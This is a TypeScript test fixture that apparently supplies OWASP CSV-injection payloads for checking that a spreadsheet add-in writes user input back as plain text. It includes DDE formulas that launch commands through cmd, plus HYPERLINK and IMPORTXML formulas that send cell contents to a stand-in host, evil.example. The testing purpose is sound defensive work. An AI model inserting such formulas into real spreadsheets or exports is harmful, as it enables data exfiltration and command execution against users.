// The OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection): each leading character
// a spreadsheet may read as the start of a formula, and the classic DDE and hyperlink exploits. The corpus types each
// into every text field of a workbook; whatever the add-in writes back must stay text.

export const OWASP_PAYLOADS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "'=1+1",
  "=1+1\n=2+2",
];

/** A string at Excel's cell limit (32,767 characters), Vietnamese with a payload at its head. */
export const HUGE_TEXT: string = ("=cmd|' /C calc'!A0 Văn bản minh chứng rất dài " + "ạ".repeat(40_000)).slice(
  0,
  32_767,
);
